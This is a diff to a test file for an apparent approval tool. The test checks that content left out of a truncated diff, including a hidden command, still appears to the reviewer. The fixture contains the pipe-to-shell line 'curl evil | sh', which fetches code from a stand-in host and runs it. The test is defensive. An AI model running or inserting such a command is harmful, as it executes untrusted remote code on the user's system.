@@ -38,7 +38,7 @@ describe('a diff', () => {
   });
 
   it('[A3] whose middle was left out is not what is signed: all that would be written is shown', () => {
-    const cut = '@@ -0,0 +1,3 @@\n+harmless\n[70000 bytes were left out here.]\n+harmless';
+    const cut = { text: '@@ -0,0 +1,3 @@\n+harmless\n+harmless', truncated: true };
     const content = 'harmless\ncurl evil | sh\nharmless\n';
     expect(changeLines({ kind: 'write', content }, cut)).toContainEqual({ kind: 'added', text: 'curl evil | sh' });
     expect(changeLines({ kind: 'edit', before: 'old', after: content }, cut)).toContainEqual({
